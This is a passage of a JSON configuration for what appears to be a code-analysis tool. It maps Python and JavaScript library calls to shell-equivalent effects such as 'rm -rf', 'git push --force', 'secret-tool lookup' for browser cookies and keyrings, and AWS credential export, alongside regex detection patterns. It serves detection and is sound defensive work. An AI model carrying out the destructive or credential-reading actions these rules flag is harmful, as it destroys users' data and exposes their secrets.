oted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\$\\\\k<tag>\\\\$|$)|(?<word>[\\\\p\
{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?:(?:const|let|var|my)\\\\s{1,9\
})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\blambda\\\\s+(\\\\w+)","g"],"tes\
t_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]{1,12})[\\"']|\\\\\\\\\\\\.(?:\\\\(\\\\\
??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']","g"],"known_command":["^(?![\\\\s\\\\S]*(?:^|[;&|\\\\n(\`{\
!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u"],"deletes":["^\\\\s*(?:sudo\\\
\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"class_name":["^[A-Z]\\\\w*$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\\
w+)(?:\\\\.bake)?$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:self|this|[A-Z]\\\\w*)\\\\.(\\\\w+)$"],"true_or_false":["^(?:True|False|tru\
e|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"uses_arguments":["arg|shift|\\\\$[1-9*@]","i"],"uses_environment":["e\
nv","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\\d|getline|print","i"]},"texts":{"XML or HTML":["^\\\\s*<(!doctype|\\\
\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"],"a log":["^\\\\s*(\\\\[?\\\\d{4}-\\\\d\\\\d-\\\\d\\\\d[T ]|Traceback \\\\(most re\
cent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]*[.!?:)](\\\\s|$)","u"]}},"languages":{"languages":{"python"\
:{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escapes":true,"quoting":"none","patterns":false,"lines":"indent"},"progr\
am":"python3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["def"],"inputs":{"sys.argv":"argv"\
,"os.environ":"environment","sys.stdin":"lines"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.","google.cloud.","googleapicl\
ient.","firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","libcloud.","stripe.","github.\
Github","gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_client.","weaviate.","pymilvus.",\
"algoliasearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid.","supabase.","appwrite.","co\
ntentful_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","netlify.","tencentcloud.","aliy\
unsdk","alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","notion_client.","asana.","repli\
cate.","pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox.","cloudinary.","mailchimp_\
marketing.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesforce.","hubspot."],"texts":{"stat.S_ISUID":"u+\
s","stat.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./program.py","string.ascii_lowercase":"abcdefghijk\
lmnopqrstuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"open","Path":"pathlib.Path","subprocess.os.syste\
m":"os.system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlretrieve":"urllib.request.urlretrieve","pd.read_c\
sv":"pandas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__call__$",""],["^Path(?=\\\\.)","p\
athlib.Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)",""],["^aioshutil\\\\.","shuti\
l."],["^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys.stdout.write":"print text","input":"input","r\
aw_input":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run rm $0:path","os.rmdir":"run\
 rmdir $0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path","send2trash.send2trash":"ru\
n rm -rf $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames":"run mv $0:src $1:dst","shu\
til.move":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run cp $0:src $1:dst","shutil.cop\
ytree":"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mkfifo":"run mkfifo $0","os.mk\
nod":"run mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user $0:path","shutil.chown":"ru\
n chown $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/temporary","os.system":"shell $0:command:cmd","os.pop\
en":"shell $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0:command:cmd","asyncio.create_subprocess_exec"\
:"program $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"shell $0:args:command:cmd $:\
input:stdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_call":"she\
ll $0:args:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subprocess.Popen":"shell $0:args:command:cmd $:input:\
stdin","subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:args:command:cmd $:input:stdin","os.execl":"execu\
te $0 $1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..","os.execvp":"execute $0 $1..\
","os.execve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.spawnlp":"execute $1 $2..","\
os.spawnle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawnve":"execute $1 $2..","os.sp\
awnvpe":"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"kill $0 $1 group","psutil.Pro\
cess":"made psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"names $0","os.fork":"if-sign:repeats run fork","os\
.setuid":"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run setgid $last","os.chroot":"run chroot $0","ctypes\
.CDLL":"made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=True run truncate -s 0 $0:files | read $0","execf\
ile":"read $0","linecache.getlines":"read $0","numpy.loadtxt":"read $0","pandas.read_csv":"read $0","pandas.read_json":"read $0","dotenv.dotenv_values":"read $0\
","importlib.util.spec_from_file_location":"run python3 $1","runpy.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load\
 $0","dill.loads":"load $0","joblib.load":"load $0","torch.load":"load $0","marshal.loads":"load $0","zipfile.ZipFile":"open $0:file:name $1:mode","tarfile.open\
":"open $0:file:name $1:mode","gzip.open":"open $0:file:name $1:mode","bz2.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.ope\
n":"made store $0","dbm.open":"made store $0","lmdb.open":"made store $0","plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store \
$0","zarr.open":"made store $0","zarr.open_group":"made store $0","tinydb.TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.comma\
nds.upload.upload":"run twine upload x","configparser.ConfigParser":"made config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-u\
pdate","sqlalchemy.sql.update":"made whole-update","crontab.CronTab":"if-option:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_defaul\
t_collection":"run secret-tool lookup x","secretstorage.get_all_collections":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x",\
"browser_cookie3.chrome":"run secret-tool lookup x","browser_cookie3.firefox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","brow\
ser_cookie3.load":"run secret-tool lookup x","dulwich.porcelain.push":"if-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$\
|HARD$ run git reset --hard","git_filter_repo.RepoFilter":"run git filter-repo --force","git.Head.delete":"if-option:force=True run git branch -D","psycopg.sql.\
SQL":"value $0","psycopg2.sql.SQL":"value $0","sql.SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value\
 $0","sqlalchemy.text":"value $0","staticmethod":"value $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_mo\
dule":"module $0","getattr":"attribute $0 $1","enumerate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip"\
:"rows","itertools.zip_longest":"rows","itertools.chain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins\
","functools.partial":"made bound $0 $1..","git.Repo":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git \
$0","pygit2.Repository":"made git $0","pygit2.init_repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mo\
ck":"mock","unittest.mock.NonCallableMock":"mock","unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made\
 error","FileNotFoundError":"made error","PermissionError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError\
":"made error","TimeoutError":"made error","ConnectionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.Time\
outExpired":"made error","unittest.mock.patch":"patcher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitat\
e $0 $1 $2","pytest.MonkeyPatch":"made monkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"i\
f-no-sign:keeps-real if-no-sign:other-imports if-no-sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests\
 patcher requests","responses.RequestsMock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-\
no-sign:other-requests patcher requests","requests_mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-\
real if-no-sign:besides-httpx patcher requests","pyfakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","fsspec\
.filesystem":"if-says:^memory$ made mock","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.message.EmailMessage":"made\
 mail","email.mime.text.MIMEText":"made mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.get_credential":"secret"\
,"netrc.netrc":"secret","dict":"from-pairs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.EphemeralClient":"made m\
ock","sqlalchemy.create_mock_engine":"made mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.split":"split $0","json.lo\
ads":"parse-json $0","tempfile.mktemp":"value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sqlalchemy.delete":"made \
whole","sqlalchemy.sql.delete":"made whole","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downgrade $1:revision","inv\
oke.run":"shell $0","os.path.join":"join $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","pathlib.Path.cwd":"valu\
e .","os.getcwd":"value .","os.getenv":"environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environment $0 $1:default","o\
s.path.dirname":"dirname $0","tempfile.mkstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.iglob":"glob $0","code\
cs.decode":"decode $0 $1","shutil.make_archive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"made database $0","soc\
ket.socket":"made socket","socket.gethostbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslookup $0","smtplib.SMTP\
":"made connection","smtplib.SMTP_SSL":"made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":"made rest $:base_url"\
,"httpx.AsyncClient":"made rest $:base_url","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/lib/python3/site-package\
s","paramiko.Transport":"made ssh","paramiko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.ThreadingGroup":"made \
ssh","invoke.Context":"made ssh","http.client.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlopen":"request GET $0:url\
 $1:data","urllib.request.Request":"if-option:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.urlretrieve":"run curl \
-o $1 $0","requests.request":"request $0 $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files $:content $:params","h\
ttpx.get":"request GET $0:url $:data $:json $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","httpx\
.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","httpx.\
put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","httpx\
.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params"\
,"httpx.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:pa\
rams","httpx.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session":"name requests","aioh\
ttp.ClientSession":"name requests","winreg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","call_command":"run django\
-admin $0","numpy.save":"write $1","torch.save":"write $1","joblib.dump":"write $1"},"methods":{"splitlines":"if-text split $self \\n","reset":"if-made:git if-sa\
ys:hard$|Hard$|HARD$ run git reset --hard | if-git if-option:working_tree=True run git reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exi\
sts=replace run sql drop-table $0","push":"if-option:dry_run value | if-option:force=True if-git run git push --force origin | if-option:force=True if-owner:^(o\
rigin|remotes|remote)\\\\b|\\\\.remotes?\\\\b run git push --force origin | if-option:refspec run git push origin $:refspec","remove_volume":"run docker volume rm $0"\
,"prune_volumes":"run docker volume prune -af","delete_head":"if-git if-option:force=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git \
run git tag -d","checkout_head":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:li\
st run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$\
 run git checkout -f","put":"if-made:sftp run scp -r $0 host:/x","new":"if-made:crontab run crontab -","write":"if-made:crontab run crontab - | send $self $0","\
write_to_user":"if-made:crontab run crontab -","unlink":"if-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | ru\
n rm $self","remove":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library\
 run rm $0 | if-made:sftp run cloud-sdk delete | run rmdir $self","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentials":"run aws \
configure export-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made some-rows","excl\
ude":"if-name:objects made some-rows","delete":"if-made:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-s\
dk delete | if-made:rest request-over DELETE $0 | if-git if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made\
:some-rows run sql delete-some rows | if-name:objects run sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made\
:connection run cloud-sdk delete","open_sftp":"if-made:ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name\
:containers docker-run | sql $0:query:sql","sudo":"if-made:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored \
entries keys","rmtree":"run rm -rf $self","read_text":"read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"write $self $0:da\
ta","chmod":"chmod $self $0:mode","walk":"if-text walk $self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x",\
"attach":"if-made:mail transfer sendmail $0 x","add_attachment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin","safe_subst\
itute":"if-made:template format $origin","values":"if-made:whole-update value $self | if-map values $self","execution_options":"if-made:whole-update value $self\
","append":"if-list append $self $all","appendleft":"if-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self $all","creat\
e":"if-name:containers docker-run","touch":"if-text run touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-te\
xt if-args:1 run mv $self $0","symlink_to":"run ln -s $0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall\
":"send $self $0","sendfile":"send $self $0","readlines":"value $self","communicate":"value $self","expanduser":"value $self","resolve":"value $self","absolute"\
:"value $self","as_posix":"value $self","readline":"any-of $self","text":"value $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","\
connect":"if-made connect $all","connect_ex":"connect $all","sendto":"transfer nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made\
 transfer sendmail $0 $self","storbinary":"if-made transfer ftp $1 $self","request":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","syst\
em":"if-made:library shell $0","kill":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -K\
ILL $origin","terminate":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin",\
"execute":"if-made:pending-delete run sql delete-all rows | sql $0:query:sql","write_database":"if-kept if-sign:database-address if-option:if_table_exists=repla\
ce run sql drop-table $0","sql":"sql $0:query:sql","executescript":"sql $0:query:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","comma\
nd":"sql $0:query:sql","execute_sql":"sql $0:query:sql","execute_async":"sql $0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 $1","it\
ems":"if-map pairs $self","add_argument":"declare-option $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $\
0 $1 $2","parse_args":"options","parse_known_args":"options","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker volume prune -af\
"}},"javascript":{"lexer":{"comment":["//"],"block_comment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":\
"none","patterns":true,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"f\
unction_keywords":["function"],"inputs":{"process.argv":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment\
","process.stdin":"text"},"unknown":["process.pid"],"sdks":["aws-sdk.","aws-sdk/","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kuberne\
tes/","stripe","@octokit/","octokit","@slack/","@gitbeaker/","heroku-client","cloudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","m\
inio","@pinecone-database/","@qdrant/","weaviate","algoliasearch","meilisearch","typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supab\
ase/","node-appwrite","dots-wrapper","contentful-management","@digitalocean/","hcloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/",\
"@notionhq/","jira.js","@linear/","@datadog/","@launchdarkly/","@sanity/client","replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/",\
"intercom-client","node-zendesk","@atlassian/","@clerk/","@contentful/","@storyblok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Clie\
nt","Bun.S3Client","Bun.s3"],"texts":{"__dirname":".","__filename":"./program.js","path.sep":"/","process.execPath":"node"},"rewrites":[["\\\\.(?:promises|default\
)(?=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/promises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=gl\
obalThis|global|process|require|module|constructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"\
],["^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*\
[./])?(?:db|knex)$","knex"],["^drizzle-orm/[\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.\
constructor$|^(?:Async|Generator)Function$","Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write":"print","require":"mod\
ule $0","import":"module $0","process.getBuiltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0"\
,"createRequire":"name require","module.createRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInC\
ontext":"eval $0","vm.Script":"made vm-script $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0","execa.execaCommand\
":"shell $0","shelljs.exec":"shell $0","$":"shell $0","Bun.$":"shell $0","execa":"if-arg:map name $ | spawn $0 $1:args $:shell","execa.execa":"if-arg:map name $\
 | spawn $0 $1:args $:shell","child_process.spawn":"spawn $0 $1:args $:shell","child_process.execFile":"spawn $0 $1:args $:shell","Deno.Command":"spawn $0 $1:ar\
gs $:shell","child_process.fork":"run node $0","shelljs.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.\
write":"write $0 $1","Deno.writeTextFile":"write $0 $1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"\
empty-text","Buffer.alloc":"empty-text","Deno.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $\
0","ps-list":"if-none entries any-process","find-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool look\
up x","keytar.getPassword":"run secret-tool lookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0\
:path","lmdb.open":"made store $0:path","classic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb"\
:"made store $:filename","@seald-io/nedb":"made store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service\
","ssh2-sftp-client":"made sftp","isomorphic-git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isom\
orphic-git.checkout":"if-real if-option:force=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegi\
t.Reset.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $\
0","Bun.file":"read $0","Deno.remove":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run\
 rm $0","fs.rm":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"r\
un rm $0","fs.rmdir":"if-option:recursive run rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $\
0","fs-extra.emptyDir":"run rm -rf $0","fs.createWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate \
-s 0 $0","Deno.truncate":"run truncate -s 0 $0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-m\
atches $0 $:dryRun","del":"remove-matches $0 $:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf\
":"remove-matches $0","fs.mkdtemp":"new-folder","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-gi\
t":"made git $0:baseDir","simple-git.default":"made git $0:baseDir","better-sqlite3":"made database $0","better-sqlite3.default":"made database $0","sqlite.Data\
baseSync":"made database $0","bun:sqlite.Database":"made database $0","fs.rename":"run mv $0 $1","fs.move":"run mv $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"\
run cp -r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0 $1","fs.link":"run ln $0 $1","fs.chmod":"chmod $0 $1","fs.chown":"run chown $1 $0","fs.l\
chown":"run chown $1 $0","fs.readdir":"if-option:withFileTypes=true calls-back dirents $0 | calls-back names $0","Deno.readDir":"calls-back names $0","fs.glob":\
"globs $0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"globs $0 $:cwd","glob.glob":"globs $0 $:cwd","glob":"globs $0 $:cwd","globby.globby":"globs $0 $:\
cwd","globby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cwd","fast-glob":"globs $0 $:cwd","fast-glob.sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $\
:cwd","tinyglobby.globSync":"globs $0 $:cwd","Object.entries":"pairs $0","Object.values":"values $0","Object.keys":"keys $0","Reflect.ownKeys":"keys $0","path.d\
irname":"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":"made ssh","process.kill":"kill $0 $1","process.setuid":"run setuid $0","process.setgid":"run s\
etgid $0","process.cwd":"value .","Deno.cwd":"value .","JSON.parse":"parse-json $0","os.homedir":"value ~","Deno.env.toObject":"environment","Deno.env.get":"env\
ironment $0","path.join":"join-parts","path.posix.join":"join-parts","path.resolve":"join $all","fetch":"open-request $:method=GET $0:url:hostname:host $:body $\
:data $:json","http.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","https.request":"open-request $:method=GET $0:url:hostname:ho\
st $:body $:data $:json","axios":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","got":"open-request $:method=GET $0:url:hostname:host $:b\
